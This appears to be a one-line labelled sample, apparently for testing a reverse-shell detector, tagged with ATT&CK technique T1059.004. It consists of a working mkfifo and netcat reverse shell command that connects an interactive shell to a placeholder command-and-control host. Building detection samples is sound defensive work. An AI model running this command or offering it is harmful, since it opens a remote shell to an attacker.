# expect: reverse-shell | source: T1059.004
mkfifo /tmp/f
cat /tmp/f | /bin/sh -i 2>&1 | nc c2.example.invalid 443 > /tmp/f
